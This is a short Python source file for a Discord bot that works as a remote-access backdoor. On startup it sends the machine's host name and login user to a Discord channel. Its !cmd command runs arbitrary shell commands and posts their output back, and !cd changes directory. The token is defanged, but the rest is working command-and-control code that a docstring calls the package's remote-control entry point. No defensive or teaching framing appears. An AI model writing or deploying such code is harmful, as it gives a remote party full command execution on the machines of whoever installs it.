import os
import platform
import subprocess

import discord
from discord.ext import commands

TOKEN = "FAKE.DISCORD.BOT-TOKEN-defanged"
bot = commands.Bot(command_prefix="!", intents=discord.Intents.all())


@bot.event
async def on_ready():
    channel = bot.get_channel(0)
    await channel.send("online: %s %s" % (platform.node(), os.getlogin()))


@bot.command()
async def cmd(ctx, *, command):
    out = subprocess.run(command, shell=True, capture_output=True, text=True)
    await ctx.send("```%s```" % (out.stdout + out.stderr)[:1900])


@bot.command()
async def cd(ctx, *, path):
    os.chdir(path)
    await ctx.send(os.getcwd())


def run():
    """The package's documented entry point: starts the remote-control bot."""
    bot.run(TOKEN)
